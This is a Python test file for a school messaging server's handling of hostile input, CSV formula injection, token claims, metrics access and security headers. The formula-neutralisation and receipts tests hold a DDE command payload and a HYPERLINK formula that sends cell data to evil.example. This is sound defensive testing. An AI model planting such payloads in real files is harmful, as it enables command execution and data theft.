"""Hostile input, output and tokens (issue #11, items 3, 4, 8-15): every case gets a clear error
with a stable code and changes nothing; exports and headers are safe to open in a browser or a
spreadsheet."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from typing import Any

import jwt
import pytest
import socketio
from sqlalchemy import update

from clients.homeroom import RequestError
from realtime import csvexport
from realtime.auth import ALGORITHM, AUDIENCE
from realtime.store.schema import users
from realtime.transport.rest import HUB
from realtime.transport.sio_internals import shutdown
from tests.conftest import TEST_SECRET, Server, make_settings, start_server, stop_server
from tests.hostile import NO_ACK, code_of, hostile_json, http, raw_call, snapshot

# Under the 64 KiB packet limit, far deeper than any decoder recursion limit.
DEEP = "[" * 20_000 + "]" * 20_000
HUGE = 2**70


def _publish(class_id: int, **changes: Any) -> dict[str, Any]:
    payload = {
        "class_id": class_id,
        "client_id": "n1",
        "audience": "guardians",
        "kind": "info",
        "title": "春游",
        "body": "",
    }
    payload.update(changes)
    return payload


def _chat(class_id: int, escaped_body: str) -> str:
    """A chat.send packet body with text written as raw JSON escapes."""
    stream = f"class:{class_id}:students"
    return f'["chat.send",{{"stream":"{stream}","client_id":"x","body":"{escaped_body}"}}]'


async def test_unreadable_socket_requests_are_answered_bad_request(server: Server) -> None:
    teacher = await server.client("li")
    cid = server.class_id
    before = await snapshot(server.app)
    cases = {
        "nested deeper than the decoder goes": f'["chat.send",{DEEP}]',
        "a lone surrogate": _chat(cid, "half an emoji \\ud83d"),
        "NUL in text": _chat(cid, "a\\u0000b"),
        "NaN deadline": hostile_json(["notice.publish", _publish(cid, deadline=float("nan"))]),
        "Infinity deadline": hostile_json(["notice.publish", _publish(cid, deadline=float("inf"))]),
        "a huge deadline": hostile_json(["notice.publish", _publish(cid, deadline=1e300)]),
        "a whitespace title": hostile_json(["notice.publish", _publish(cid, title=" \u3000\t")]),
        "an id past 64 bits": hostile_json(["chat.delete", {"message_id": HUGE}]),
        "a huge id in a stream key": hostile_json(
            ["chat.history", {"stream": f"class:{HUGE}:students"}]
        ),
        "other digits in a stream key": hostile_json(["chat.history", {"stream": "user:١"}]),
        "a huge cursor": hostile_json(["sync", {"cursors": {f"class:{cid}:students": HUGE}}]),
        "not a list": '{"event":"chat.send"}',
        "an empty list": "[]",
        "a number as event name": "[7,{}]",
        "not JSON": '["chat.send",{"body":',
        "a reserved event name": hostile_json(["disconnect", {}]),
        "connect as an event": hostile_json(["connect", {"token": teacher.token}]),
        "a whitespace lesson title": hostile_json(
            ["session.start", {"class_id": cid, "kind": "lesson", "title": "   "}]
        ),
    }
    for name, body in cases.items():
        answer = await raw_call(teacher, body)
        assert answer != NO_ACK, f"{name}: no answer"
        assert code_of(answer) == "bad_request", f"{name}: {answer!r}"
    # sync ignores cursors of streams one may not follow, and these cannot be followed.
    for key in (f"qa:{cid}:s{HUGE}", f"class:{HUGE}:students", "user:١"):
        answer = await raw_call(teacher, hostile_json(["sync", {"cursors": {key: 0}}]))
        assert code_of(answer) == "ok" and key not in {s["stream"] for s in answer["streams"]}
    assert await snapshot(server.app) == before
    # The connection and who it belongs to survived every one of them.
    sent = await teacher.send_chat(f"class:{cid}:students", "still here")
    assert sent["body"] == "still here" and (await snapshot(server.app)) != before


async def test_msgpack_clients_get_the_same_answers(tmp_path: Any) -> None:
    srv = await start_server(make_settings(tmp_path, serializer="msgpack"))
    try:
        teacher = await srv.client("li")
        for payload, name in [
            ({"message_id": 2**63}, "chat.delete"),  # inside msgpack's 64 bits, past MAX_ID
            (_publish(srv.class_id, deadline=float("nan")), "notice.publish"),
            (_publish(srv.class_id, title="a\x00b"), "notice.publish"),
        ]:
            with pytest.raises(RequestError) as err:
                await teacher.request(name, payload)
            assert err.value.code == "bad_request", (name, payload)
        with pytest.raises(RequestError) as err:
            await teacher.request("disconnect", {})
        assert err.value.code == "bad_request"
        assert (await teacher.send_chat(f"class:{srv.class_id}:students", "ok"))["body"] == "ok"
    finally:
        await stop_server(srv)


async def test_hostile_rest_requests_get_clear_errors(server: Server) -> None:
    teacher = await server.client("li", connect=False)
    url, token = server.url, teacher.token
    before = await snapshot(server.app)
    # Authentication comes before the body is read, on every endpoint.
    for body in ("", "{", DEEP, '{"join_code": 5}'):
        status, answer, _ = await http(url, "POST", "/api/v1/join", data=body)
        assert (status, code_of(answer)) == (401, "unauthorized"), body[:20]
    cases: list[tuple[str, str, str | None]] = [
        ("POST", "/api/v1/join", DEEP),
        ("POST", "/api/v1/join", '{"join_code":"abcd","child_name":"\\udc00"}'),
        ("POST", "/api/v1/join", '{"join_code":"abcd","child_name":" \\t "}'),
        ("POST", "/api/v1/join", '{"join_code":"abcd","child_name":"x","n":NaN}'),
        ("POST", "/api/v1/auth/login", '{"username":"li\\u0000","password":"x"}'),
        (
            "POST",
            "/api/v1/auth/register",
            '{"username":"newmom","password":"password1","display_name":"   ",'
            '"join_code":"abcdef"}',
        ),
        ("GET", f"/api/v1/classes/{HUGE}/members", None),
        ("GET", "/api/v1/classes/-1/members", None),
        ("GET", "/api/v1/classes/%E0%A5%A7/members", None),  # a Devanagari one
        ("POST", f"/api/v1/links/{HUGE}/approve", None),
        ("GET", f"/api/v1/notices/{HUGE}/receipts", None),
        ("GET", f"/api/v1/notices/1/receipts?after={HUGE}&list=receipts", None),
        ("GET", f"/api/v1/history?stream=class:{HUGE}:students", None),
        ("GET", f"/api/v1/history?stream=class:{server.class_id}:students&before={HUGE}", None),
        ("GET", f"/api/v1/sessions/{HUGE}/stats", None),
    ]
    for method, path, data in cases:
        status, answer, _ = await http(url, method, path, token=token, data=data)
        assert (status, code_of(answer)) == (400, "bad_request"), (path, (data or "")[:60])
    assert await snapshot(server.app) == before


ROSTER_HEADER = "student,student_username,guardian,guardian_username,relationship,phone"


async def test_roster_files_that_csv_cannot_read_are_refused_or_read(server: Server) -> None:
    teacher = await server.client("li", connect=False)
    path = f"/api/v1/classes/{server.class_id}/roster"
    before = await snapshot(server.app)
    for text, line in [
        (ROSTER_HEADER + "\n" + "长" * 200_000 + ",longname\n", 2),  # over csv's field limit
        (ROSTER_HEADER + "\nNul\x00l,nul_student\n", 2),
    ]:
        status, answer, _ = await http(
            server.url, "POST", path, token=teacher.token, data=text, content_type="text/csv"
        )
        assert status == 400 and answer["error"]["code"] == "bad_request", answer
        assert answer["error"]["rejected"][0]["line"] == line, answer
    assert await snapshot(server.app) == before
    # Old Mac line endings (CR only) are line endings.
    text = ROSTER_HEADER + "\r孙七 Sun Qi,sunqi,孙七爸爸,sun_dad,father,13900001111\r"
    status, answer, _ = await http(
        server.url, "POST", path, token=teacher.token, data=text, content_type="text/csv"
    )
    assert status == 201, answer
    assert answer["rows"] == 1 and {c["username"] for c in answer["created"]} == {
        "sunqi",
        "sun_dad",
    }


def test_every_formula_start_is_neutralised() -> None:
    for start in csvexport.FORMULA_STARTS:
        assert csvexport.cell(start + "1+1") == "'" + start + "1+1"
    assert csvexport.cell("王浩妈妈") == "王浩妈妈" and csvexport.cell(-3) == -3
    table = csvexport.Table(["a", "b"])
    table.row(["=cmd|' /C calc'!A0", "ok"])
    assert list(csv.reader(io.StringIO(table.text()))) == [
        ["a", "b"],
        ["'=cmd|' /C calc'!A0", "ok"],
    ]


async def test_receipts_csv_carries_no_live_formula(server: Server) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
    async with server.app[HUB].store.transaction() as conn:
        await conn.execute(
            update(users).where(users.c.id == server.uid("wang_mom")).values(display_name=evil)
        )
    teacher = await server.client("li")
    mom = await server.client("wang_mom")
    notice = await teacher.publish_notice(
        server.class_id, "@SUM(1+1)", kind="reply_required", choices=["-1", "+1"]
    )
    await mom.reply_notice(notice["id"], "-1")
    # The headers are in the reader's language (docs/protocol.md): English here.
    text = await teacher.http("GET", f"/api/v1/notices/{notice['id']}/receipts.csv?lang=en")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    mine = [r for r in rows if r["Recipient ID"] == str(server.uid("wang_mom"))]
    assert mine[0]["Recipient"] == "'" + evil and mine[0]["Reply"] == "'-1"
    for row in rows:
        for value in row.values():
            assert not value.startswith(csvexport.FORMULA_STARTS), row


def _token(**claims: Any) -> str:
    now = int(time.time())
    base = {"sub": "1", "sch": 1, "aud": AUDIENCE, "iat": now, "exp": now + 600}
    base.update(claims)
    return jwt.encode(
        {k: v for k, v in base.items() if v is not None},
        TEST_SECRET,
        ALGORITHM,
        headers={"kid": "k1"},
    )


async def test_tokens_must_say_when_they_were_issued_and_expire(server: Server) -> None:
    uid = str(server.uid("li"))
    for name, token in {
        "no exp": _token(sub=uid, exp=None),
        "no iat": _token(sub=uid, iat=None),
    }.items():
        status, answer, _ = await http(server.url, "GET", "/api/v1/me", token=token)
        assert (status, code_of(answer)) == (401, "unauthorized"), name
        client = await server.client(reconnection=False)
        refusals: list[Any] = []
        client.sio.on("connect_error", refusals.append)
        with pytest.raises(socketio.exceptions.ConnectionError):
            await client.connect(token, sync=False)
        assert "unauthorized" in repr(refusals), (name, refusals)
    status, answer, _ = await http(server.url, "GET", "/api/v1/me", token=_token(sub=uid))
    assert status == 200, answer


async def test_metrics_go_only_to_allowed_addresses_or_with_the_token(tmp_path: Any) -> None:
    srv = await start_server(make_settings(tmp_path, metrics_allow="", metrics_token="s3cret"))
    try:
        status, body, _ = await http(srv.url, "GET", "/metrics")
        assert (status, code_of(body)) == (403, "forbidden")
        status, body, _ = await http(srv.url, "GET", "/metrics", token="wrong")
        assert (status, code_of(body)) == (401, "unauthorized")
        status, body, _ = await http(srv.url, "GET", "/metrics", token="s3cret")
        assert status == 200 and "homeroom_" in body
    finally:
        await stop_server(srv)
    srv = await start_server(make_settings(tmp_path, metrics_allow="10.0.0.0/8,127.0.0.1"))
    try:
        status, body, _ = await http(srv.url, "GET", "/metrics")  # the default: loopback
        assert status == 200 and "homeroom_" in body
        status, body, _ = await http(srv.url, "GET", "/metrics", token="guess")  # no token set
        assert status == 401
    finally:
        await stop_server(srv)


async def test_security_headers_on_every_response(server: Server) -> None:
    teacher = await server.client("li", connect=False)
    responses = {
        "page": await http(server.url, "GET", "/"),
        "login": await http(
            server.url,
            "POST",
            "/api/v1/auth/login",
            data='{"username":"li","password":"demo1234"}',
        ),
        "api": await http(server.url, "GET", "/api/v1/me", token=teacher.token),
        "error": await http(server.url, "GET", "/api/v1/me"),
        "missing": await http(server.url, "GET", "/nothing-here"),
        "socket.io": await http(server.url, "GET", "/socket.io/?EIO=4&transport=polling"),
    }
    for name, (_status, _body, headers) in responses.items():
        assert headers["X-Content-Type-Options"] == "nosniff", name
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], name
        assert headers["Referrer-Policy"] == "no-referrer", name
        assert headers["Server"] == "Homeroom", name  # no versions
    csp = responses["page"][2]["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "unsafe-eval" not in csp
    for name in ("login", "api", "error", "socket.io"):
        assert responses[name][2]["Cache-Control"] == "no-store", name


async def test_stopping_closes_long_polling_clients_without_waiting_for_idle_handshakes(
    tmp_path: Any,
) -> None:
    """A long-polling client is told and closed when the server stops; a bare Engine.IO
    handshake that never polls does not hold the stop for the whole shutdown time-out."""
    srv = await start_server(make_settings(tmp_path, shutdown_timeout_s=10.0))
    stopped = False
    try:
        parent = await srv.client("wang_mom", connect=False)
        await parent.connect(transports=["polling"])
        assert parent.sio.transport() == "polling"
        ended = asyncio.Event()
        parent.sio.on("disconnect", lambda *_: ended.set())
        status, body, _ = await http(srv.url, "GET", "/socket.io/?EIO=4&transport=polling")
        assert status == 200 and '"sid"' in body  # a session that will never poll
        started = time.monotonic()
        await srv.runner.cleanup()
        stopped = True
        took = time.monotonic() - started
        await asyncio.wait_for(ended.wait(), 5)
        assert ("shutdown", shutdown.SHUTDOWN_PUSH) in parent.ephemeral
        assert took < 5, f"stopping took {took:.1f} s"
    finally:
        if not stopped:
            await stop_server(srv)
